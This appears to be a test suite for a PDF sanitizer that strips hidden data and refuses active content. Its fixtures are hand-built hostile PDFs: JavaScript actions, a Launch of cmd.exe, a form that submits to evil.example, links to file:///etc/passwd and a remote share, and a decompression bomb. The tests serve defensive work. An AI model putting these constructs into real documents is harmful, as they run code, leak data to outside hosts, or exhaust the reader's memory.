import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString, StandardFonts } from "@cantoo/pdf-lib";
import { describe, expect, test } from "vitest";
import { packedActions, packedPdf } from "../../../test/packed-pdf";
import { cleanDocument } from "./clean-document";
import { cleanPdf } from "./clean-pdf";

/** The cleaned bytes; throws if the PDF is refused. */
async function clean(bytes: Uint8Array): Promise<Buffer> {
  const result = await cleanPdf(bytes);
  if (result.ok) return Buffer.from(result.bytes);
  throw new Error(result.reason);
}

/** A page of text, changed by `edit`. @param compressed writes its objects into compressed object streams */
async function pdf(edit: (document: PDFDocument) => void = () => {}, compressed = false): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage().drawText("Visiting hours", { font: await document.embedFont(StandardFonts.Helvetica) });
  edit(document);
  return Buffer.from(await document.save({ useObjectStreams: compressed }));
}

/** Written by hand: each line is an object, and the first is the catalog. */
function raw(...objects: string[]): Buffer {
  const numbered = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join("");
  return Buffer.from(`%PDF-1.7\n${numbered}trailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n`, "latin1");
}

const CATALOG = "<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>";
const PAGES = "<</Type/Pages/Kids[]/Count 0>>";
const action = (text: string) => raw(CATALOG, PAGES, text);
const onPage = (extra: string) => raw("<</Type/Catalog/Pages 2 0 R>>", PAGES, extra);
const link = (uri: string) => onPage(`<</Type/Annot/Subtype/Link/A<</S/URI/URI(${uri})>>>>`);

describe("accepts", () => {
  test.each([false, true])("a page of text; compressed: %s", async (compressed) => {
    const cleaned = await clean(await pdf(undefined, compressed));
    const document = await PDFDocument.load(cleaned);
    expect(document.getPageCount()).toBe(1);
    expect(document.getPage(0).node.Resources()?.toString()).toContain("/Font");
  });

  test("what makes it accessible: its language, title, and structure", async () => {
    const cleaned = await clean(
      await pdf((document) => {
        document.setTitle("Visitor guide", { showInWindowTitleBar: true });
        document.setLanguage("en-US");
        document.catalog.set(PDFName.of("MarkInfo"), document.context.obj({ Marked: true }));
        const tree = document.context.obj({
          Type: "StructTreeRoot",
          K: [{ S: "P", Alt: PDFString.of("A map") }],
        });
        document.catalog.set(PDFName.of("StructTreeRoot"), document.context.register(tree));
      }),
    );
    const { catalog, getTitle } = await PDFDocument.load(cleaned);
    expect(catalog.get(PDFName.of("Lang"))?.toString()).toContain("en-US");
    expect(catalog.lookup(PDFName.of("StructTreeRoot"))?.toString()).toContain("A map");
    expect(getTitle.call(await PDFDocument.load(cleaned))).toBe("Visitor guide");
  });

  test.each([
    ["a link to the web", link("https://hospital.example/visit")],
    ["a phone number", link("tel:+13085550100")],
    ["a place to open at", action("[2 0 R /Fit]")],
    ["an action that goes to a page of its own", action("<</S/GoTo/D[2 0 R/Fit]>>")],
    [
      "a structure element and a page label of the same keys",
      onPage("[<</S/Link>><</S/D>><</Subtype/Link>>]"),
    ],
  ])("%s", async (_, bytes) => {
    await expect(clean(bytes)).resolves.toBeInstanceOf(Uint8Array);
  });

  test("removes data between and behind the objects", async () => {
    const bytes = Buffer.concat([await pdf(), Buffer.from("\n<script>alert(1)</script>")]);
    expect((await clean(bytes)).toString("latin1")).not.toContain("<script>");
  });

  test("removes an object that only other readers would find: hidden in a stream that a table of offsets points to", async () => {
    const hidden = "9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj";
    const bytes = onPage(`<</Length ${hidden.length}>>stream\n${hidden}\nendstream`);
    const table = await PDFDocument.load(await clean(bytes));
    expect(
      table.context
        .enumerateIndirectObjects()
        .map(([, object]) => object.toString())
        .join(),
    ).not.toContain("/S /JavaScript");
  });
});

describe("refuses active content", () => {
  test.each([
    ["a script", action("<</S/JavaScript/JS(app.alert(1))>>")],
    ["a script whose name is escaped", action("<</S/J#61vaScript/J#53(app.alert(1))>>")],
    ["a script whose name is escaped in small letters", action("<</S/#4aavaScript>>")],
    ["scripts of the whole document", onPage("<</JavaScript<</Names[(a) 2 0 R]>>>>")],
    ["a program", onPage("<</A<</S/Launch/F(cmd.exe)>>>>")],
    ["a form that sends itself", onPage("<</A<</S/SubmitForm/F(https://evil.example)>>>>")],
    ["a form that reads a file", onPage("<</A<</S/ImportData/F(x.fdf)>>>>")],
    ["a jump to another file", onPage("<</A<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0]>>>>")],
    ["a jump into an attached file", onPage("<</A<</S/GoToE>>>>")],
    ["an attached file", onPage("<</Type/Filespec/F(a.exe)/EF<</F 2 0 R>>>>")],
    ["a form of Adobe's own", onPage("<</XFA[(template) 2 0 R]>>")],
    ["a film", onPage("<</Type/Annot/Subtype/RichMedia>>")],
    ["something that starts when a page opens", onPage("<</AA<</O<</S/GoTo/D[2 0 R/Fit]>>>>>>")],
    ["an address that opens by itself", action("<</S/URI/URI(https://evil.example)>>")],
    ["a second action behind a harmless one", action("<</S/GoTo/D[2 0 R/Fit]/Next<</S/Named/N/Print>>>>")],
    ["a link that is a script", link("java\\nscript:alert(1)")],
    ["a link to a file of the computer", link("file:///etc/passwd")],
    ["a link to a share of the network", link("\\\\\\\\\\\\\\\\evil\\\\\\\\share")],
    [
      "the kind of action in an object of its own",
      onPage("<</A<</S 4 0 R>>>>").toString("latin1").replace("trailer", "4 0 obj\n/Launch\nendobj\ntrailer"),
    ],
  ])("%s", async (_, bytes) => {
    await expect(clean(Buffer.from(bytes as string, "latin1"))).rejects.toThrow("active");
  });

  test.each(packedActions)("%s, in a compressed object stream", async (_, packed) => {
    const bytes = packedPdf(packed);
    expect(bytes.toString("latin1")).not.toMatch(/Script|SubmitForm|URI/);
    await expect(clean(bytes)).rejects.toThrow("active");
  });

  test("accepts a link to the web in a compressed object stream", async () => {
    await expect(clean(packedPdf("<</S/URI/URI(https://hospital.example/visit)>>"))).resolves.toBeInstanceOf(
      Uint8Array,
    );
  });

  test("refuses a script in a compressed object stream, which a search of the bytes would not find", async () => {
    const bytes = await pdf((document) => {
      const script = document.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1)") });
      document.catalog.set(PDFName.of("OpenAction"), document.context.register(script));
    }, true);
    expect(bytes.includes("JavaScript")).toBe(false);
    await expect(clean(bytes)).rejects.toThrow("active");
  });
});

describe("refuses what cannot be checked", () => {
  test("a locked one", async () => {
    const document = await PDFDocument.create();
    document.addPage();
    await document.encrypt({ userPassword: "secret", ownerPassword: "secret" });
    await expect(clean(await document.save())).rejects.toThrow("locked");
  });

  test("a signed one, whose signature would break", async () => {
    const signed = onPage("<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>");
    await expect(clean(signed)).rejects.toThrow("signed");
  });

  test.each([
    ["nothing", Buffer.alloc(0)],
    ["no catalog", raw("<<>>")],
    [
      "a page before it",
      Buffer.concat([Buffer.from("<!doctype html>"), raw("<</Type/Catalog/Pages 2 0 R>>", PAGES)]),
    ],
    ["arrays in arrays without an end", onPage("[".repeat(200_000))],
  ])("%s", async (_, bytes) => {
    await expect(clean(bytes)).rejects.toThrow("unreadable");
  });

  /** A valid object stream with blanks after its one object. */
  const inflating = (bytes: number) => {
    const packed = deflateSync(Buffer.concat([Buffer.from("9 0 <<>>"), Buffer.alloc(bytes, " ")]), {
      level: 9,
    });
    const head = `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`;
    return onPage(`${head}${packed.toString("latin1")}\nendstream`);
  };

  test("a small one that inflates to more than 64 MB; less is accepted", async () => {
    await expect(clean(inflating(1_000_000))).resolves.toBeInstanceOf(Uint8Array);
    await expect(clean(inflating(80_000_000))).rejects.toThrow("unreadable");
  });
});

describe("in its own process", () => {
  const REMEDY = "Print it to a new PDF.";

  test("returns the cleaned document; a refusal has a sentence and what to do", async () => {
    const { bytes } = await cleanDocument(await pdf(), REMEDY);
    expect((await PDFDocument.load(bytes)).getPageCount()).toBe(1);
    await expect(cleanDocument(action("<</S/JavaScript>>"), REMEDY)).rejects.toMatchObject({
      code: "UNSUPPORTED_TYPE",
      message: `This PDF contains active content: a script, a form that sends itself, or an attached file. ${REMEDY}`,
    });
  });

  test("refuses a document that needs more memory than the process has", async () => {
    const entries = onPage("<</Type/XRef/Size 400000000/W[1 1 1]/Length 0>>stream\n\nendstream");
    await expect(cleanDocument(entries, REMEDY)).rejects.toMatchObject({
      code: "UNSUPPORTED_TYPE",
      message: expect.stringContaining("damaged"),
    });
  });
});
